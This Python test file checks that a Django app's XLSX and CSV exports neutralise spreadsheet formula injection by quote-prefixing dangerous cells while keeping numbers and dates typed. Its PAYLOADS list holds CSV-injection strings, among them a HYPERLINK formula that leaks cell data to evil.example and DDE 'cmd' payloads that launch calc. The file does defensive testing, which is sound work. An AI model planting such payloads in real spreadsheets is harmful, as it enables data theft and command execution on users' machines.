"""No spreadsheet we write runs a formula (OWASP CSV injection): a text cell that starts with
= + - @ tab or carriage return leaves with a single quote in front; numbers and dates stay typed."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.urls import reverse

from archive.services.dossier import _index_csv
from committee.choices import Role
from emergency.models import Supply
from injuries.exports import tables_to_xlsx
from safecommunity.evidence import Table
from safecommunity.importing import neutralise_dataset, neutralise_formula

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_prefixed_with_a_quote(payload):
    assert neutralise_formula(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        -5,
        -1.5,
        Decimal("-3.25"),
        0,
        datetime.date(2025, 3, 1),
        None,
        "-5",
        "+86",
        "-1,200.5",
        "王丽华",
        "a=b",
        "",
        "1-2",
    ],
)
def test_numbers_dates_and_plain_text_are_unchanged(value):
    assert neutralise_formula(value) == value
    assert type(neutralise_formula(value)) is type(value)


def test_neutralised_dataset_keeps_cell_types():
    dataset = tablib.Dataset(headers=["名称", "数量", "日期"])
    dataset.append(["=1+1", -5, datetime.date(2025, 3, 1)])
    row = neutralise_dataset(dataset)[0]
    assert row == ("'=1+1", -5, datetime.date(2025, 3, 1))


@pytest.fixture
def poisoned_supply(cast):
    return Supply.objects.create(
        community=cast.community,
        name=PAYLOADS[0],
        kind="medical",
        spec=PAYLOADS[2],
        quantity=4,
        location=PAYLOADS[3],
        custodian="\t=1+1",
        purchased_on=datetime.date(2025, 3, 1),
    )


def test_xlsx_export_has_no_formula_and_keeps_numbers_and_dates(cast, poisoned_supply):
    url = reverse("emergency:supply_export", args=[cast.community.slug])
    response = cast.client_for(Role.OFFICE).get(url)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    headers = [c.value for c in sheet[1]]
    row = dict(zip(headers, sheet[2], strict=True))
    assert row["物资名称"].value == "'" + PAYLOADS[0]
    assert row["规格型号"].value == "'" + PAYLOADS[2]
    assert row["存放地点"].value == "'" + PAYLOADS[3]
    assert row["数量"].data_type == "n" and row["数量"].value == 4
    assert row["购置日期"].is_date
    assert row["购置日期"].value.date() == datetime.date(2025, 3, 1)


def test_csv_export_has_no_cell_starting_a_formula(cast, poisoned_supply):
    url = reverse("emergency:supply_export", args=[cast.community.slug])
    response = cast.client_for(Role.OFFICE).get(url, {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["物资名称"] == "'" + PAYLOADS[0]
    assert row["保管人"] == "'\t=1+1"
    assert row["数量"] == "4"
    for cells in rows:
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_statistics_workbook_has_no_formula_and_keeps_numbers():
    table = Table("=标题", ["=原因", "例数"], [["=HYPERLINK(1)", -3], ["@x", 2.5]])
    sheet = openpyxl.load_workbook(io.BytesIO(tables_to_xlsx([table]))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'=HYPERLINK(1)" in values and "'@x" in values
    assert -3 in values and 2.5 in values


def test_dossier_index_csv_has_no_formula():
    text = _index_csv(
        [["01", "01/a.pdf", "=HYPERLINK(1)", datetime.date(2025, 3, 1), "@u", "t", 12, "ok"]]
    )
    row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
    assert row[2] == "'=HYPERLINK(1)" and row[4] == "'@u" and row[6] == "12"
